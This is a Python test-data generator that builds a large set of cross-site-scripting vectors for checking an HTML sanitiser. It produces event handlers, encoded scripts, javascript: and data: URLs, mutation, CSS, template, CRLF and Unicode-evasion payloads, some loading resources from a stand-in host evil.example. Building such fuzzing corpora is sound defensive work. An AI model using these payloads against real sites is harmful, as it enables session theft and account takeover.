"""Markup and addresses that would run something if they came through: a grammar, no list copied from anywhere.

Every vector calls ``xss(N)``, or asks for an address under ``NEVER``, if it works. :func:`vectors` writes the whole set for
one marker, so that what fires says which vector it was and in which field. The same call gives the same vectors.
"""

from __future__ import annotations

import base64
import random
from functools import partial
from itertools import product
from typing import TYPE_CHECKING
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

NEVER = "//evil.example/never/"
"""What no page of ours may ever ask for; pictures that an article may have stand elsewhere."""

EVENTS = (
    "abort afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy "
    "beforecut beforeinput beforematch beforepaste beforeprint beforetoggle begin blur bounce cancel canplay canplaythrough "
    "change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend "
    "dragenter dragexit dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout "
    "formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup languagechange load "
    "loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout "
    "mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter "
    "pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset "
    "resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange "
    "selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove "
    "touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting "
    "webkitanimationend webkittransitionend wheel"
).split()
TAGS = (
    "<img src=x {}>", "<p tabindex=1 {}>x</p>", "<svg {}><rect width=9 height=9 /></svg>", "<details open {}><summary>x</summary>y</details>",
    "<input autofocus value=x {}>", "<video src=x controls {}></video>", "<a href=#x {}>x</a>", "<body {}>", "<x-y contenteditable {}>x</x-y>",
    "<iframe src=/none {}></iframe>", "<math {}><mi>x</mi></math>", "<table {}><tr><td>x</table>", "<button {}>x</button>", "<marquee {}>x</marquee>",
    "<select autofocus {}><option>x</select>", "<object data=x {}></object>", "<audio src=x {}></audio>", "<style {}></style>",
)  # fmt: skip


def vectors(mark: int) -> list[str]:
    """All of them, in a fixed order. The n-th says ``xss(mark + n)``."""
    return [make(mark + number) for number, make in enumerate(_makers())]


def count() -> int:
    """How many there are."""
    return len(_makers())


def _makers() -> list[Callable[[int], str]]:
    made: list[Callable[[int], str]] = []
    for family in (
        _handlers,
        _spelt,
        _scripts,
        _addresses,
        _mutating,
        _comments,
        _frames,
        _styles,
        _clobbering,
        _breaking,
    ):
        made += family()
    for family in (_strange_letters, _broken, _xml, _templates):
        made += family()
    return made + _wrapped(made)


def _of(*forms: str, before: Callable[[str], str] | None = None) -> Iterator[Callable[[int], str]]:
    """Makers of these forms, in which «code» stands for the call and «never» for the address."""
    for form in forms:
        yield partial(_written, (before or str)(form))


def _written(form: str, n: int) -> str:
    return form.replace("«code»", f"xss({n})").replace("«never»", f"{NEVER}{n}").replace("«n»", str(n))


# ---------------------------------------------------------------------------------------------- what runs by an event


def _handlers() -> list[Callable[[int], str]]:
    """Every event on four elements, another four for the next event."""
    turns = product(enumerate(EVENTS), range(4))
    return list(
        _of(*(TAGS[(number * 5 + turn * 7) % len(TAGS)].format(f"on{event}=«code»") for (number, event), turn in turns))
    )


def _entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _hex(text: str) -> str:
    return "".join(f"&#x{ord(c):x}" for c in text) + ";"


def _padded(text: str) -> str:
    return "".join(f"&#{ord(c):09d}" for c in text)


def _unicode(text: str) -> str:
    return f"\\u{ord(text[0]):04x}{text[1:]}"


CODES: tuple[Callable[[str], str], ...] = (
    str,
    _entities,
    _hex,
    _padded,
    _unicode,
    lambda code: f"top['x'+'ss']{code[3:]}",
    lambda code: f"eval(atob('{base64.b64encode(code.encode()).decode()}'))",
    lambda code: f"[].constructor.constructor('{code}')()",
    lambda code: f"setTimeout`{code.replace('(', chr(92) + 'x28').replace(')', chr(92) + 'x29')}`",
    lambda code: f"window.onerror=xss;throw/**/{code[4:-1]}",
    lambda code: f"location='javascript:{code}'",
    lambda code: f"{{{code}}}//",
)
QUOTED: tuple[str, ...] = (
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img src=x onerror="{}">', "<img src=x onerror=`{}`>", "<img/src=x/onerror={}>",
    "<img\tsrc=x\tonerror={}>", "<img\nsrc=x\nonerror\n=\n{}\n>", "<img\x0csrc=x\x0conerror={}>", "<img src=x oNeRrOr={}>",
    "<img src=x/**/onerror={}>", '<img src="x"onerror={}>', "<img src=x onerror={}//", "<img src=x onerror\x00={}>", "<img src=x \x00onerror={}>",
    "<img src=x onerror=\x01{}>", "<img a=b onerror=1 onerror={} src=x>", "<img onerror={} src=x a='>'>", "<IMG SRC=x ONERROR={}>",
    "<<img src=x onerror={}>", "<img src=x onerror = {} alt=\"'>\">", "<image src=x onerror={}>", "<img src='x'' onerror={}>",
)  # fmt: skip


def _spelt() -> list[Callable[[int], str]]:
    """One handler, in every way to write the attribute and many to write the code."""
    return [
        partial(_coded, form, code)
        for number, form in enumerate(QUOTED)
        for code in (CODES if number < 4 else CODES[number % 3 :: 3])
    ]


def _coded(form: str, code: Callable[[str], str], n: int) -> str:
    return form.format(code(f"xss({n})"))


# ---------------------------------------------------------------------------------------------- what runs by itself


def _scripts() -> list[Callable[[int], str]]:
    return list(_of(
        "<script>«code»</script>", "<SCRIPT>«code»</SCRIPT>", "<script\n>«code»</script\n>", "<script/x>«code»</script/x>", "<script >«code»</script >",
        "<script src=«never»></script>", "<script src=http:«never»></script>", "<script src='data:,«code»'></script>", "<script type=module>«code»</script>",
        "<script type=text/javascript language=x>«code»</script>", "<script>«code»", "<script>«code»//", "<script src=«never» ", "<scr<script>ipt>«code»</scr</script>ipt>",
        "<scr\x00ipt>«code»</scr\x00ipt>", "<script\x00>«code»</script>", "<\x00script>«code»</script>", "< script>«code»</script>", "<script x='>'>«code»</script>",
        '<script x=">" >«code»</script>', "<script>/*<!--<script>*/«code»</script>", "<script><!--\n«code»\n--></script>", "<script><![CDATA[«code»]]></script>",
        "<svg><script>«code»</script></svg>", "<svg><script>&#x78;ss(«n»)</script></svg>", "<svg><script href=«never» /></svg>", "<svg><script xlink:href='data:,«code»' /></svg>",
        "<math><script>«code»</script></math>", "<table><script>«code»</script></table>", "<select><script>«code»</script></select>", "<title><script>«code»</script>",
        "<script>document.write('<img src=x onerror=«code»>')</script>", "<script src=data:text/javascript;base64,«n»></script>", "<script async defer crossorigin src=«never»></script>",
        "<script for=window event=onload>«code»</script>", "<script>«code»</ script>", "<script></script><script>«code»</script>", "<script type=importmap>{}</script><script>«code»</script>",
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["«never»"]}]}</script>', "<script nonce=x>«code»</script>", "%3Cscript%3E«code»%3C/script%3E",
        "&lt;script&gt;«code»&lt;/script&gt;", "&amp;lt;script&amp;gt;«code»&amp;lt;/script&amp;gt;", "&#60;script&#62;«code»&#60;/script&#62;", "&#x3c;img src=x onerror=«code»&#x3e;",
        "&lt;img src=x onerror=«code»&gt;", "&amp;lt;img src=x onerror=«code»&amp;gt;", "<svg><animate onbegin=«code» attributeName=x dur=1s>", "<svg><set onbegin=«code» attributename=x />",
        "<svg><a><animate attributeName=href values=javascript:«code» /><text y=20>x</text></a></svg>", "<svg><discard onbegin=«code»>", "<svg><image href=x onerror=«code» />",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>«code»</script></svg>#x' /></svg>", "<svg><foreignObject><img src=x onerror=«code»></foreignObject></svg>",
        "<svg><handler type=text/javascript ev:event=load>«code»</handler></svg>", "<video><source onerror=«code» src=x></video>", "<audio><source src=x onerror=«code»></audio>",
        "<picture><source srcset=x><img src=x onerror=«code»></picture>", "<input type=image src=x onerror=«code»>", "<embed src=x onload=«code»>", "<link rel=stylesheet href=x onerror=«code»>",
        "<link rel=preload as=script href=«never» >", "<link rel=import href=«never»>", "<link rel=manifest href=«never»>", "<link rel=prerender href=«never»>", "<link rel=dns-prefetch href=«never»>",
        "<body background=«never» onload=«code»>", "<frameset onload=«code»><frame src=x></frameset>", "<html onmousemove=«code»>", "<bgsound src=«never»>", "<keygen autofocus onfocus=«code»>",
        "<template><img src=x onerror=«code»></template>", "<template shadowrootmode=open><img src=x onerror=«code»></template>", "<div><template shadowrootmode=open><script>«code»</script></template></div>",
        "<dialog open onclose=«code»><form method=dialog><button>x</button></form></dialog>", "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=«code»>y</div>",
        "<isindex type=image src=x onerror=«code»>", "<xss autofocus tabindex=1 onfocus=«code»></xss>", "<a ping=«never» href=/x>x</a>", "<img src=x srcset=«never» onerror=«code»>",
        "<portal src=«never»></portal>", "<fencedframe src=«never»></fencedframe>", "<track src=«never»>", "<video poster=javascript:«code»></video>", "<img lowsrc=javascript:«code»>",
    ))  # fmt: skip


# ---------------------------------------------------------------------------------------------- addresses

CARRIERS = (
    '<a href="{}">x</a>', "<a href='{}' target=_self>x</a>", '<form action="{}"><input type=submit></form>', '<form><button formaction="{}">x</button></form>',
    '<input type=submit form=f formaction="{}"><form id=f></form>', '<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>',
    '<svg><a xlink:href="{}"><rect width=99 height=99 /></a></svg>', '<svg><a href="{}"><text y=20>x</text></a></svg>', '<math href="{}"><mi>x</mi></math>',
    '<math><maction actiontype="statusline" xlink:href="{}">x</maction></math>', '<map name=m><area href="{}" shape=default></map><img usemap=#m src=x>',
    '<base href="{}//"><a href="x">x</a>', '<meta http-equiv=refresh content="0;url={}">', '<link rel=stylesheet href="{}">', '<img src="{}">',
    '<video src="{}" autoplay></video>', '<body background="{}">', '<table background="{}"><tr><td>x</table>', '<frameset><frame src="{}"></frameset>',
    '<applet code="{}"></applet>', '<blockquote cite="{}">x</blockquote>', '<object><param name=src value="{}"></object>', '<iframe srcdoc="<a href={}>x</a>"></iframe>',
    '<a href="{}" rel=x download>x</a>', "<p>[x]({})</p>", "{}",
)  # fmt: skip


def _address_forms() -> tuple[Callable[[int], str], ...]:
    def js(form: str) -> Callable[[int], str]:
        return lambda n: form.format(f"xss({n})")

    def page(n: int) -> str:
        return f"<script>parent.xss({n});xss({n})</script>"

    def drawing(n: int) -> str:
        return f"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.xss({n})'/>"

    def strict(n: int) -> str:
        return f"<x xmlns='http://www.w3.org/1999/xhtml'><script>xss({n})</script></x>"

    return (
        js("javascript:{}"), js("JaVaScRiPt:{}"), js(" javascript:{}"), js("\tjavascript:{}"), js("\x01javascript:{}"), js("\x1f\x0bjavascript:{}"),
        js("java\tscript:{}"), js("java\nscript:{}"), js("java\rscript:{}"), js("java&Tab;script:{}"), js("java&NewLine;script:{}"), js("&#106;avascript:{}"),
        js("&#x6A;avascript:{}"), js("&#0000106avascript:{}"), js("javascript&colon;{}"), js("javascript&#58;{}"), js("javascript&#x3A{}"), js("javascript:&#10;{}"),
        js("javascript://%0a{}"), js("javascript:/*--></title></style>*/{}"), js("javascript:void({})"), js("javascript:'<img src=x onerror={}>'"), js("%6Aavascript:{}"),
        js("javascript%3A{}"), js("javascript\x00:{}"), js("\u00a0javascript:{}"), js("\u2028javascript:{}"), js("\ufeffjavascript:{}"), js("ｊavascript:{}"),
        js("javascrıpt:{}"), js("vbscript:{}"), js("livescript:{}"), js("feed:javascript:{}"), js("view-source:javascript:{}"), js("http:javascript:{}"), js("//javascript:{}"),
        js("jar:javascript:{}"), js("&#x01;javascript:{}"), js("java\\script:{}"), js("javascript:eval('{}')"),
        lambda n: f"data:text/html,{quote(page(n))}", lambda n: f"data:text/html;base64,{base64.b64encode(page(n).encode()).decode()}",
        lambda n: f"DATA:text/html;charset=utf-8,{quote(page(n))}", lambda n: f"data:image/svg+xml,{quote(drawing(n))}",
        lambda n: f"data:application/xhtml+xml,{quote(strict(n))}", lambda n: f"data:,xss({n})",
        lambda n: f"blob:https://evil.example/{n}", lambda n: f"filesystem:https://evil.example/{n}", lambda n: f"file:///etc/passwd?{n}",
    )  # fmt: skip


def _addresses() -> list[Callable[[int], str]]:
    """The plainest in every carrier, and the rest spread over the carriers, each of them in six."""
    forms = _address_forms()
    pairs = [(carrier, forms[0]) for carrier in CARRIERS]
    for number, form in enumerate(forms[1:], 1):
        pairs += [(CARRIERS[(number * 3 + turn * 5) % len(CARRIERS)], form) for turn in range(5)] + [
            (CARRIERS[0], form),
            ("{}", form),
        ]
    pairs = list(dict.fromkeys(pairs))
    return [partial(_carried, carrier, form) for carrier, form in pairs]


def _carried(carrier: str, form: Callable[[int], str], n: int) -> str:
    return carrier.replace("{}", form(n).replace('"', "&quot;") if '"{}' in carrier else form(n))


# ---------------------------------------------------------------------------------------------- what changes when it is parsed again


def _mutating() -> list[Callable[[int], str]]:
    """Text in one reading, markup in the next: raw text within foreign content, and what tables and forms throw out."""
    outer = (
        "<svg>{}</svg>", "<math>{}</math>", "<math><mtext>{}</mtext></math>", "<math><annotation-xml encoding=text/html>{}</annotation-xml></math>",
        "<svg><desc>{}</desc></svg>", "<svg><title>{}</title></svg>", "<svg><foreignObject>{}</foreignObject></svg>", "<math><mi><mglyph>{}</mglyph></mi></math>",
        "<form><math><mtext></form><form><mglyph>{}", "<table><math><mtext><table>{}", "<svg></p>{}", "<math></br>{}", "<select>{}</select>", "<noscript>{}</noscript>",
        "<template>{}</template>", "<table>{}</table>", "<b><table>{}</b></table>",
    )  # fmt: skip
    inner = (
        '<style><a title="</style><img src=x onerror=«code»>">', '<noscript><p title="</noscript><img src=x onerror=«code»>">', '<textarea><a title="</textarea><img src=x onerror=«code»>">',
        '<title><a title="</title><img src=x onerror=«code»>">', '<xmp><a title="</xmp><img src=x onerror=«code»>">', '<iframe><a title="</iframe><img src=x onerror=«code»>">',
        '<noembed><a title="</noembed><img src=x onerror=«code»>">', '<!--<a title="--><img src=x onerror=«code»>">', '<a title="&lt;/style>&lt;img src=x onerror=«code»>">',
        "<style><!--</style><img src=x onerror=«code»>--></style>", "<![CDATA[<img src=x onerror=«code»>]]>", "<mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=«code»&gt;'>",
    )  # fmt: skip
    return list(_of(*(around.replace("{}", within) for around, within in product(outer, inner))))


def _comments() -> list[Callable[[int], str]]:
    return list(_of(
        "<!--><img src=x onerror=«code»>-->", "<!---><img src=x onerror=«code»>-->", "<!-- --!><img src=x onerror=«code»>-->", "<!--<!--><img src=x onerror=«code»>-->", "<!--x--><img src=x onerror=«code»>",
        "<!-- ><img src=x onerror=«code»> -->", "<!--[if gte IE 4]><img src=x onerror=«code»><![endif]-->", "<![if !IE]><img src=x onerror=«code»><![endif]>", "<!x><img src=x onerror=«code»>",
        "<?x><img src=x onerror=«code»>", "<?xml version='1.0'?><img src=x onerror=«code»>", "<?php echo '><img src=x onerror=«code»>' ?>", "<![CDATA[<img src=x onerror=«code»>]]>", "<![CDATA[><img src=x onerror=«code»>]]>",
        "]]><img src=x onerror=«code»>", "--><img src=x onerror=«code»>", "<!doctype x [<!ENTITY e '<img src=x onerror=«code»>'>]>&e;", "</-><img src=x onerror=«code»>", "</ x><img src=x onerror=«code»>",
        "<% x %><img src=x onerror=«code»>", "<!--\x00--><img src=x onerror=«code»>", "<comment><img src=x onerror=«code»></comment>", "<!-- -- --><img src=x onerror=«code»>", "<!--#exec cmd='x'--><img src=x onerror=«code»>",
        "<plaintext><img src=x onerror=«code»>", "<listing><img src=x onerror=«code»></listing>", "<xmp></xmp><img src=x onerror=«code»>", "<noframes></noframes><img src=x onerror=«code»>",
    ))  # fmt: skip


def _frames() -> list[Callable[[int], str]]:
    return list(_of(
        '<iframe srcdoc="<script>parent.«code»</script>"></iframe>', "<iframe srcdoc='<img src=x onerror=parent.«code»>'></iframe>", '<iframe srcdoc="&lt;script&gt;parent.«code»&lt;/script&gt;"></iframe>',
        '<iframe srcdoc="&#60;img src=x onerror=top.«code»&#62;"></iframe>', "<iframe sandbox=allow-scripts srcdoc='<script>«code»</script>'></iframe>", "<iframe src=«never»></iframe>", "<iframe src=x onload=«code»>",
        "<iframe name='«code»' src=javascript:eval(name)></iframe>", "<iframe/src=javascript:«code»></iframe>", "<iframe srcdoc=<svg/onload=parent.«code»>></iframe>", "<embed src=«never»>", "<embed code=«never»>",
        "<object data=«never»></object>", "<object type=text/html data='data:text/html,<script>parent.«code»</script>'></object>", "<object><embed src=javascript:«code»></object>", "<applet archive=«never» code=x></applet>",
        "<meta http-equiv=refresh content='0;url=«never»'>", "<meta http-equiv=refresh content='0;javascript:«code»'>", "<META HTTP-EQUIV=Set-Cookie CONTENT=x=«n»>", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\">",
        "<meta charset=utf-7>+ADw-script+AD4-«code»+ADw-/script+AD4-", "<meta name=referrer content=unsafe-url><img src=x onerror=«code»>", "<base href=«never»><script src=x></script>", "<base target=«code»><a href=/x>x</a>",
        "<form action=«never»><input name=q autofocus><button>x</button></form>", "<form id=f action=«never»></form><button form=f>x</button>", "<input form=f formaction=«never» type=submit>", "<link rel=stylesheet href=«never»>",
        "<frameset rows=*><frame src=«never»></frameset>", "<layer src=«never»></layer>", "<ilayer src=«never»></ilayer>", "<xml src=«never»></xml>", "<object classid=clsid:333c7bc4-460f-11d0-bc04-0080c7055a83><param name=dataurl value=«never»></object>",
    ))  # fmt: skip


def _styles() -> list[Callable[[int], str]]:
    rules = (
        "background:url(«never»)", "background-image:url('javascript:«code»')", "list-style-image:url(«never»)", "content:url(«never»)", "cursor:url(«never»),auto", "width:expression(«code»)", "x:expr/**/ession(«code»)",
        "-moz-binding:url(«never»#x)", "behavior:url(«never»)", "border-image:url(«never») 1", "mask:url(«never»)", "filter:url(«never»#f)", "background:image-set('«never»' 1x)", "--x:url(«never»);background:var(--x)",
        "background:\\75rl(«never»)", "background:u/**/rl(«never»)", "animation:x 1s", "position:fixed;inset:0;z-index:9", "shape-outside:url(«never»)", "clip-path:url(«never»#c)",
    )  # fmt: skip
    forms = [f'<p style="{rule}">x</p>' for rule in rules] + [
        f"<style>* {{{rule}}}</style><p>x</p>" for rule in rules[:16]
    ]
    forms += [
        "<style>@import '«never»';</style>", "<style>@import url(«never»);</style>", "<style>@import\\75rl(«never»)</style>", "<style>@font-face{font-family:x;src:url(«never»)}body{font-family:x}</style>", "<style>@namespace url(«never»);</style>",
        "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=«code»>x</p>", "<style>p{transition:color 1s}p:hover{color:red}</style><p ontransitionend=«code»>x</p>", "<style></style><img src=x onerror=«code»></style>",
        "<style><img src='</style><img src=x onerror=«code»>'></style>", "<style>/*</style><img src=x onerror=«code»>*/</style>", "<svg><style>@import '«never»'</style></svg>", "<svg><style>&lt;/style>&lt;img src=x onerror=«code»></style></svg>",
        "<link rel=stylesheet href='data:text/css,@import %22«never»%22'>", "<p style='background:url(\"x\"onerror=«code»)'>x</p>", "<style>a{color:red;}/*«n»*/@charset 'utf-7'</style>", '<div style="x:</style><img src=x onerror=«code»>">x</div>',
        "<font style='x' onmouseover=«code»>x</font>", "<style type=text/javascript>«code»</style>", "<p class='x' style=x:y id=«n»>x</p>", "<style media='x' onload=«code»>*{}</style>",
    ]  # fmt: skip
    return list(_of(*forms))


def _clobbering() -> list[Callable[[int], str]]:
    names = "document body cookie location forms getElementById querySelector attributes parentNode innerHTML xss top self main channels removal".split()
    forms = (
        "<img name={}>",
        "<a id={} href=«never»>x</a>",
        "<form name={}><input name=attributes></form>",
        "<iframe name={} src=«never»></iframe>",
        "<a id={}></a><a id={} name=x href=javascript:«code»>x</a>",
    )
    return list(
        _of(
            *(
                form.replace("{}", name)
                for number, name in enumerate(names)
                for form in (forms if number < 8 else forms[1::3])
            )
        )
    )


# ---------------------------------------------------------------------------------------------- out of where text stands


def _breaking() -> list[Callable[[int], str]]:
    ways_out = (
        '"',
        "'",
        '">',
        "'>",
        "`>",
        ">",
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "-->",
        "]]>",
        "</a>",
        "</p></div>",
        '"/>',
        '\\"',
        "\\'",
        "&quot;",
        "&#34;",
        "%22",
        "\u201c>",
        '"\n',
        "'\t",
        "</h1>",
        "\r\n\r\n",
        "}}",
        "*/",
    )
    payloads = (
        "<img src=x onerror=«code»>",
        " autofocus tabindex=1 onfocus=«code» x=",
        "<script>«code»</script>",
        " onmouseover=«code» ",
    )
    return list(_of(*(out + payload for out, payload in product(ways_out, payloads))))


def _templates() -> list[Callable[[int], str]]:
    """What template engines, scripts and headers would take for their own."""
    return list(_of(
        "{{ «code» }}", "{{constructor.constructor('«code»')()}}", "${«code»}", "#{«code»}", "<%= «code» %>", "{% raw %}<img src=x onerror=«code»>{% endraw %}", "{{ '<img src=x onerror=«code»>'|safe }}", "{site}<img src=x onerror=«code»>{contact}",
        '{source}" onmouseover=«code» ', "{contact}", "%(x)s<img src=x onerror=«code»>", "{0.__class__}<img src=x onerror=«code»>", "$&<img src=x onerror=«code»>$`", "\\1<img src=x onerror=«code»>", "x\r\nContent-Type: text/html\r\n\r\n<script>«code»</script>",
        "x\r\nLocation: «never»\r\n", "x%0d%0aSet-Cookie: a=«n»", "';«code»;'", '";«code»;"', "</script><svg/onload=«code»>", "\u2028«code»\u2029", "//«never»\n«code»", "[x](javascript:«code»)", '![x](x"onerror="«code»)', "[x]: javascript:«code»", "<https:«never»>",
        "<?xml-stylesheet href='«never»' type='text/xsl'?>", "&xxe;<img src=x onerror=«code»>", "<xi:include href='«never»'/>", "@import '«never»'", "url(«never»)", "expression(«code»)", "=cmd|' /C x'!A«n»", "+ADw-img src=x onerror=«code»+AD4-",
    ))  # fmt: skip


def _strange_letters() -> list[Callable[[int], str]]:
    """Letters that some code takes for others: full width, overlong, folding to ASCII, invisible ones in between."""
    base = (
        "<script>«code»</script>",
        "<img src=x onerror=«code»>",
        '<a href="javascript:«code»">x</a>',
        '" onfocus=«code» autofocus x="',
    )
    ways: tuple[Callable[[str], str], ...] = (
        lambda text: text.replace("<", "＜").replace(">", "＞").replace('"', "＂"),
        lambda text: text.replace("<", "\u02c2").replace(">", "\u02c3"),
        lambda text: text.replace("<", "‹").replace(">", "›"),
        lambda text: text.replace("s", "\u017f").replace("S", "\u017f"),
        lambda text: text.replace("i", "ı").replace("I", "İ"),
        lambda text: text.replace("<", "%C0%BC").replace(">", "%C0%BE"),
        lambda text: text.replace("<", "\xc0\xbc").replace(">", "\xc0\xbe"),
        lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
        lambda text: text.replace("<", "<\u200b"),
        lambda text: text.replace("r", "\u00adr"),
        lambda text: text.replace("r", "\u200dr"),
        lambda text: text.replace("=", "\u2028="),
        lambda text: "\u202e" + text + "\u202c",
        lambda text: "\ufeff" + text,
        lambda text: text.replace("<", "<\u0300"),
        lambda text: text.replace(" ", "\u00a0"),
        lambda text: text.replace(" ", "\u3000"),
        lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
        lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
        lambda text: text.replace("<", "&lt").replace(">", "&gt"),
        lambda text: text.replace("<", "&LT;").replace(">", "&GT;").replace('"', "&QUOT;"),
        lambda text: text.replace("<", "&#x000003c").replace(">", "&#x0003e;"),
        lambda text: text.replace("<", "\x85<").replace("=", "\x8d="),
        lambda text: text.replace("i", "\x00i"),
    )  # fmt: skip
    return [maker for way in ways for maker in _of(*base, before=way)]


def _broken() -> list[Callable[[int], str]]:
    return list(_of(
        "<img src=x onerror=«code»", '<img src="x', "<img src='x onerror=«code»>", '<a href="javascript:«code»', "<a href=javascript:«code»", "<", "</", "<a", "<a ", "<!", "<!--", "<?", "<img src=x onerror=«code» <p>x", "<p <img src=x onerror=«code»>",
        '<img src="x` `<script>«code»</script>"` `>', '<img """><script>«code»</script>">', "<a \"'onclick=«code»>x</a>", "<a href='x'onclick='«code»'>x", "</p onclick=«code»>x", "</script/onload=«code»>x", "<p/><svg/onload=«code»", "<svg onload=«code»",
        "<svg/onload=«code»//", "<iframe src=javascript:«code» <", '<img src=x onerror="«code»', "<img src=x onerror='«code»", "<p>" * 60 + "<img src=x onerror=«code»>", "<b><i><u><s>" * 20 + "<img src=x onerror=«code»>", "<table><td><table>" * 8 + "<img src=x onerror=«code»>",
        "<div " + "a=b " * 300 + "onclick=«code»>x</div>", "<a" + " " * 500 + "onclick=«code» href=#>x</a>", "<p title='<img src=x onerror=«code»>'>x</p>", "<p title=\"'><img src=x onerror=«code»>\">x</p>", "<p title='\"><img src=x onerror=«code»>'>x</p>",
        "<img alt='<script>«code»</script>' src=x>", "<img alt='\"><svg onload=«code»>' src=/p.png>", "<img title='\" onerror=«code» x=\"' src=x>", "<a title='\" onclick=«code» x=\"' href=/x>x</a>", "<time datetime='\"><img src=x onerror=«code»>'>x</time>", "<td colspan='\"><img src=x onerror=«code»>'>x</td>",
        "<p lang='\"><img src=x onerror=«code»>'>x</p>", "<p dir='\" onclick=«code» x=\"'>x</p>", "<ol start='\"><svg onload=«code»>'><li>x</ol>", "<q cite='\"><svg onload=«code»>'>x</q>", "<abbr title='</abbr><svg onload=«code»>'>x</abbr>", "<img width='\"><svg onload=«code»>' src=x>",
        "<figure><img src=x><figcaption><img src=x onerror=«code»></figcaption></figure>", "<figcaption onclick=«code»>x</figcaption>", "<p class=syn-source>Source: <a href=javascript:«code»>x</a></p>", "<ul class=syn-credits><li><img src=x onerror=«code»></ul>",
        "<p>Source: <img src=x onerror=«code»></p>", "<p>By <b onclick=«code»>«code»</b> | Editor: <svg onload=«code»></p>", "<p>来源：<a href=javascript:«code»>报</a> 责任编辑：<img src=x onerror=«code»></p>", "<p>Correction: <img src=x onerror=«code»> An earlier version was wrong.</p>",
        "<img src=x onerror=eval(String.fromCharCode(120,115,115))(«n»)>", '<img src=1 href=1 onerror="javascript:«code»"></img>', "<p><o:p onclick=«code»>x</o:p></p>", "<a href=x:«code» onclick=«code»>x</a>", "<p hidden=until-found onbeforematch=«code»>x</p>",
    ))  # fmt: skip


def _xml() -> list[Callable[[int], str]]:
    return list(_of(
        "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>«code»</html:script>", "<x:img xmlns:x='http://www.w3.org/1999/xhtml' src='x' onerror='«code»'/>", "<script xmlns='http://www.w3.org/1999/xhtml'>«code»</script>", "<svg xmlns='http://www.w3.org/2000/svg' onload='«code»'/>",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>«code»</script></svg>", "<a xmlns='http://www.w3.org/1999/xhtml' href='javascript:«code»'>x</a>", "<a xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='javascript:«code»' xlink:actuate='onLoad' xlink:show='replace'>x</a>",
        "<p xml:base='javascript:«code»//'><a href='x'>x</a></p>", "<p xml:base='«never»'><img src='x'/></p>", "<![CDATA[<script>«code»</script>]]>", "]]>]]&gt;<![CDATA[<script>«code»</script>", "<?xml-stylesheet type='text/xsl' href='data:text/xml,«n»'?><p>x</p>",
        "<!DOCTYPE p [<!ENTITY x '«code»'>]><p>&x;</p>", "<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>", "<rdf:li xmlns:rdf='x'><img src=x onerror=«code»></rdf:li>", "<xhtml:body xmlns:xhtml='http://www.w3.org/1999/xhtml' onload='«code»'/>", "<item><title>x</title><description>&lt;img src=x onerror=«code»&gt;</description></item>",
        "</description></item><item><title>x</title><description>&lt;img src=x onerror=«code»></description>", "</title></entry><script xmlns='http://www.w3.org/1999/xhtml'>«code»</script>", "</content:encoded><script xmlns='http://www.w3.org/1999/xhtml'>«code»</script>", "<handler xmlns='http://www.w3.org/2001/xml-events'>«code»</handler>",
    ))  # fmt: skip


def _wrapped(made: list[Callable[[int], str]]) -> list[Callable[[int], str]]:
    """Some of all these once more, within or behind other markup, by lot; the lot is always the same."""
    dice = random.Random(1429)
    around = (
        "<table><tr><td>{}</td></tr></table>", "<p>x {}", "<blockquote><p>{}</blockquote>", "<ul><li>{}", "<a href=/near>{}</a>", "<h2>{}</h2>", "<figure>{}<figcaption>x</figcaption></figure>", "<pre>\n{}</pre>", "<b><i>{}", "<div><div>{}</div>",
        "<select><option>{}", "<svg><p>{}", "<math><mi>{}", "<noscript>{}</noscript>", "<p title='{}'>x</p>", '<img alt="{}" src=/p.png>', "x" * 40 + " {} " + "y" * 40, "<center><font color=red>{}</font></center>", "<p>a</p>\n\n{}\n\n<p>b</p>", "<dl><dt>{}<dd>x</dl>",
    )  # fmt: skip
    chosen = [(made[number], dice.choice(around)) for number in dice.sample(range(len(made)), 320)]
    return [partial(_around, form, within) for within, form in chosen]


def _around(form: str, within: Callable[[int], str], n: int) -> str:
    return form.replace("{}", within(n))
